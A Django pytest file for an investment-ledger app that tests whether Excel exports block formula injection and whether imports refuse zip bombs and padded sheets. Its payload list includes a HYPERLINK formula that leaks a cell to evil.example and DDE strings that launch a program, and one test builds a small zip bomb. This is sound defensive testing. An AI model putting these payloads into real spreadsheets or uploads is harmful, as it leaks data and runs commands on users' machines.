"""Hostile workbooks: formula-like text in exports, zip bombs and padded sheets in imports."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from projects import excel
from projects.models import Project
from tests import factories
from xianju_invest.workbooks import open_rows

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def upload(content, name="ledger.xlsx"):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def _cells_of(content):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}


def _no_formula_in(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_formula_like_names_are_exported_as_text_on_the_page_and_the_api(client, leader):
    for i, text in enumerate(HOSTILE):
        factories.make_project(name=f"项目{i}", investor_name=text)
    client.force_login(leader)

    for url in (reverse("projects:export"), "/api/ledger/export/"):
        response = client.get(url)
        assert response.status_code == 200
        assert _no_formula_in(response.content)
        cells = _cells_of(response.content)
        for text in HOSTILE:
            assert cells[text].data_type == "s", (url, text)
            assert cells[text].quotePrefix, (url, text)
        assert not cells["项目0"].quotePrefix  # ordinary text keeps its ordinary style


def test_text_that_reads_like_an_excel_error_is_exported_as_text(client, leader):
    for i, text in enumerate(["#N/A", "#DIV/0!", "#REF!"]):
        factories.make_project(name=f"项目{i}", investor_name=text)
    client.force_login(leader)
    cells = _cells_of(client.get(reverse("projects:export")).content)
    for text in ["#N/A", "#DIV/0!", "#REF!"]:
        assert cells[text].data_type == "s", text
    assert cells["项目0"].data_type == "s"


def _template_header(client):
    book = load_workbook(io.BytesIO(client.get(reverse("projects:export"), {"template": 1}).content))
    return [c.value for c in book.worksheets[0][1]]


def _workbook(header, rows):
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append([row.get(h) for h in header])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite(content, **members):
    """The workbook with some members replaced (by a function of their text) or added (bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            change = members.pop(info.filename, None)
            dst.writestr(info.filename, change(data.decode()).encode() if change else data)
        for name, data in members.items():
            dst.writestr(name, data)
    return out.getvalue()


def _row(i):
    return {"项目名称": f"导入项目{i}", "状态": "线索", "投资方": f"导入投资方{i}"}


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_it_is_read(client, staff):
    client.force_login(staff)
    small = _workbook(_template_header(client), [_row(1)])
    bomb = _rewrite(small, **{"xl/padding.xml": b"<x/>" * (6 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024

    response = client.post(reverse("projects:import"), {"file": upload(bomb)})

    assert response.status_code == 200
    [message] = response.context["form"].errors["file"]
    assert "解压" in message and "20 MB" in message
    assert Project.objects.count() == 0


def test_a_declared_sheet_size_is_ignored_rows_are_as_wide_as_the_header(client, staff):
    client.force_login(staff)
    header = _template_header(client)
    content = _rewrite(
        _workbook(header, [_row(1), _row(2)]),
        **{
            "xl/worksheets/sheet1.xml": lambda xml: re.sub(
                r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD20000"', xml
            )
        },
    )

    book, rows = open_rows(upload(content), max_rows=excel.IMPORT_MAX_ROWS + 2)
    try:
        read = list(rows)
    finally:
        book.close()

    assert len(read) == 3
    assert {len(row) for row in read} == {len(header)}
    response = client.post(reverse("projects:import"), {"file": upload(content)})
    assert response.status_code == 302
    assert Project.objects.count() == 2


def test_rows_far_below_the_limit_refuse_the_workbook_instead_of_being_read(client, staff):
    client.force_login(staff)
    header = _template_header(client)
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    sheet.append([_row(1).get(h) for h in header])
    sheet.cell(row=20000, column=1, value="藏在两万行的项目")
    sheet.cell(row=20000, column=2, value="线索")
    sheet.cell(row=20000, column=3, value="某投资方")
    out = io.BytesIO()
    book.save(out)

    response = client.post(reverse("projects:import"), {"file": upload(out.getvalue())})

    assert Project.objects.count() == 0
    [error] = response.context["errors"]
    assert error.line == excel.IMPORT_MAX_ROWS + 2
    assert "最多" in error.message
